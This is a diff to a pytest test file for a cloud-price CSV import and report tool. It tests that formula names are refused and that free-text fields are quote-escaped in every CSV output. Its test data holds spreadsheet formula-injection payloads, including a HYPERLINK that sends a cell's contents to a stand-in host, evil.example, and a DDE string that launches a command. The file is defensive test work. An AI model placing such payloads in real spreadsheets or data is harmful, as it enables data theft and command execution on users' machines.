@@ -300,29 +300,57 @@ def test_a_bad_row_deep_in_a_long_file_stores_nothing(run_cli, engine, tmp_path)
     assert counts(engine) == before
 
 
-def test_formula_injections_are_stored_as_text_and_neutralised_in_reports(run_cli, tmp_path):
-    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    rows = [
-        price_row(instance_type=evil, source=""),
-        price_row(region="@SUM(1+1)*cmd|' /C calc'!A0", instance_type="GT4.X", source=""),
-        price_row(instance_type="+1-1", source="-2+3"),
-    ]
+@pytest.mark.parametrize(
+    "column, name",
+    [
+        ("instance_type", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
+        ("region", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("instance_type", "+1-1"),
+        ("region", "-cn-beijing"),
+    ],
+)
+def test_formula_names_are_refused_with_their_line(run_cli, engine, tmp_path, column, name):
     path = tmp_path / "evil.csv"
     with path.open("w", encoding="utf-8", newline="") as fh:
-        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        writer = csv.DictWriter(fh, fieldnames=list(price_row()))
         writer.writeheader()
-        writer.writerows(rows)
+        writer.writerows([price_row(), price_row(**{column: name})])
     result = run_cli("import", str(path))
-    assert result.exit_code == 0, result.output
+    assert result.exit_code == 2, result.output
+    assert f"evil.csv: line 3: {column}" in result.stderr and "formula" in result.stderr
+    assert counts(engine)[0] == 0
+
+
+def test_formula_text_is_neutralised_in_every_csv_written(run_cli, tmp_path):
+    """A source note is free text, stored as given; every CSV for people starts it with a quote."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    path = tmp_path / "ok.csv"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.DictWriter(fh, fieldnames=[*REQUIRED_COLUMNS, "source"])
+        writer.writeheader()
+        writer.writerow(price_row(source=evil))
+    assert run_cli("import", str(path)).exit_code == 0
     out = tmp_path / "reports"
     assert run_cli("report", "--out", str(out)).exit_code == 0
-    cells = [
-        c for f in out.glob("*.csv") for row in csv.reader(io.StringIO(f.read_text("utf-8-sig"))) for c in row
-    ]
-    assert "'" + evil in cells
-    assert not any(c.startswith(("=", "+", "@")) for c in cells), [c for c in cells if c[:1] in "=+@"]
-    others = [p.name for p in out.iterdir() if p.suffix != ".csv"]
-    assert len(others) == 1 and others[0].endswith("_cheapest_trend.png"), others  # nothing else written
+    written = {f.name: f.read_text("utf-8-sig") for f in out.glob("*.csv")}
+    exported = tmp_path / "export.csv"
+    assert run_cli("export", "--out", str(exported)).exit_code == 0
+    written["export"] = exported.read_text("utf-8")
+    written["prices --format csv"] = run_cli("prices", "--format", "csv").stdout
+    for name, text in written.items():
+        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        assert not any(c.startswith(("=", "+", "@")) for c in cells), (
+            name,
+            [c for c in cells if c[:1] in "=+@"],
+        )
+    assert "'" + evil in [c for row in csv.reader(io.StringIO(written["export"])) for c in row]
+    moved = make_engine(f"sqlite:///{tmp_path / 'moved.db'}")  # and import takes the quote off again
+    ensure_schema(moved)
+    import_csv(moved, exported, FX)
+    with moved.connect() as conn:
+        assert conn.execute(select(prices.c.source)).scalar_one() == evil
+    moved.dispose()
+    assert "'" + evil in [c for row in csv.reader(io.StringIO(written["prices --format csv"])) for c in row]
 
 
 def test_a_control_character_in_a_field_is_refused_with_its_line(run_cli, engine, tmp_path):
